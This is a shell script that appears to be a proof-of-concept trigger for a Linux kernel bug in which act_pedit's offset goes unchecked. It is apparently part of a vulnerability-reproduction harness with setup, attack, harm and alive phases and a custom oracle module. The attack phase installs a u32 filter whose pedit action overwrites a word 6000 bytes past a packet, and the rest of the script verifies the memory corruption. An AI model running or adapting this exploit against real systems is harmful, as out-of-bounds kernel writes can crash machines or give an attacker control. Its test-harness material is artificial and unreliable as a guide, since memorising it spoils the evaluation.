#!/bin/sh
# Triggers the missing check of act_pedit's offset. Needs act_pedit, cls_u32, sch_drr, dummy; and the
# oracle module `neighbour`.
#
#	trigger.sh setup     device atk with a drr qdisc
#	trigger.sh attack    a filter changes the word 6000 bytes behind packets; then there is one
#	trigger.sh harm      ends with 0 when memory behind the packet has changed
#	trigger.sh alive     a filter that changes packets on a new device: they get through
set -eu

ORACLE=/sys/kernel/debug/neighbour
CACHE=/sys/kernel/slab/kmalloc-2k

device() { # NAME HOST/BITS
	ip link add "$1" type dummy
	# No packets but ours.
	echo 1 >"/proc/sys/net/ipv6/conf/$1/disable_ipv6"
	ip link set "$1" up
	ip addr add "$2" dev "$1"
}

change() { # DEVICE HOST OFFSET
	tc filter add dev "$1" parent 1: protocol ip prio 1 u32 match ip dst "$2/32" flowid 1:1 \
		action pedit munge offset "$3" u32 set 0x41414141
}

case $1 in
setup)
	insmod /otf/modules/neighbour.ko size=2048 slab_bytes=$((4096 << $(cat $CACHE/order)))
	device atk 10.66.1.1/24
	tc qdisc add dev atk root handle 1: drr
	tc class add dev atk parent 1: classid 1:1 drr quantum 1500
	;;
attack)
	# The second packet, after a second, is the one: no program is started between hole and packet.
	ping -q -c 2 -i 1 -W 0.05 -s 1400 10.66.1.2 >/dev/null 2>&1 &
	sleep 0.3
	change atk 10.66.1.2 6000
	echo 1 >$ORACLE/hole
	wait
	;;
harm)
	changed=$(cat $ORACLE/changed)
	[ "$changed" -gt 0 ] || exit 1
	echo "$changed bytes behind the packet: $(head -n 1 $ORACLE/report)"
	;;
alive)
	device well 10.66.2.1/24
	tc qdisc add dev well root handle 1: drr
	tc class add dev well parent 1: classid 1:1 drr quantum 1500
	change well 10.66.2.2 20
	ping -q -c 3 -i 0.01 -W 0.05 10.66.2.2 >/dev/null 2>&1 || true
	sent=$(cat /sys/class/net/well/statistics/tx_packets)
	tc qdisc del dev well root
	ip link del well
	[ "$sent" = 3 ] || { echo "$sent of 3 packets got through"; exit 1; }
	;;
*)
	echo "trigger.sh setup | attack | harm | alive" >&2
	exit 2
	;;
esac
